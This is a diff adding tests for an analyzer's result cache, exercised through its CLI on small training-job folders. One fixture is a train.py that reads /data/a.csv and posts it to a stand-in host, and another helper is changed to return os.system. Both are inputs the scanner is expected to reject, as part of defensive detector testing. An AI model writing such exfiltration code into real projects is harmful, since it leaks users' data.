@@ -2,8 +2,11 @@
 
 from __future__ import annotations
 
+import json
 import os
 from pathlib import Path
+
+from conftest import run_cli
 
 from analyzer.cache import KEY_FILE, ResultCache, key_of
 from analyzer.model import Finding
@@ -72,3 +75,48 @@ def test_an_unwritable_folder_only_costs_time(tmp_path: Path) -> None:
     cache = ResultCache(blocker / "cache")
     cache.put(key_of("a"), [F])
     assert cache.get(key_of("a")) is None
+
+
+# ---- through the CLI, as CI re-runs use it -------------------------------------
+
+
+def _scan(job: Path, *extra: str) -> dict:
+    proc = run_cli("scan", "--format", "json", *extra, str(job))
+    assert proc.stdout, proc.stderr
+    return json.loads(proc.stdout)["reports"][0]
+
+
+def _job(folder: Path, files: dict[str, str]) -> Path:
+    for name, text in files.items():
+        (folder / name).write_text(text)
+    return folder
+
+
+def test_a_warm_rescan_reports_exactly_what_a_cold_one_did(tmp_path: Path) -> None:
+    (tmp_path / "job").mkdir()
+    job = _job(tmp_path / "job", {"train.py": "import requests\nrequests.post('https://x.example', data=open('/data/a.csv').read())\n",
+               "model.py": "import torch\nnet = torch.nn.Linear(2, 2)\n"})
+    cache = tmp_path / "cache"
+    cold = _scan(job, "--cache-dir", str(cache))
+    assert any(cache.rglob("*")) and cold["decision"] == "reject"
+    assert _scan(job, "--cache-dir", str(cache)) == cold
+
+
+def test_a_changed_module_that_a_file_reaches_is_analysed_again(tmp_path: Path) -> None:
+    (tmp_path / "job").mkdir()
+    job = _job(tmp_path / "job", {"helpers.py": "import math\ndef runner():\n    return math.sqrt\n",
+                                  "train.py": "from helpers import runner\nrunner()(4.0)\n"})
+    cache = tmp_path / "cache"
+    assert _scan(job, "--cache-dir", str(cache))["decision"] == "accept"
+    (job / "helpers.py").write_text("import os\ndef runner():\n    return os.system\n")
+    report = _scan(job, "--cache-dir", str(cache))  # train.py did not change; what it calls did
+    assert report["decision"] == "reject"
+    assert any(f["path"] == "train.py" and "os.system" in f["message"] for f in report["findings"])
+
+
+def test_no_cache_reads_and_writes_nothing(tmp_path: Path) -> None:
+    (tmp_path / "job").mkdir()
+    job = _job(tmp_path / "job", {"train.py": "print(1)\n"})
+    cache = tmp_path / "cache"
+    _scan(job, "--no-cache", "--cache-dir", str(cache))
+    assert not cache.exists()
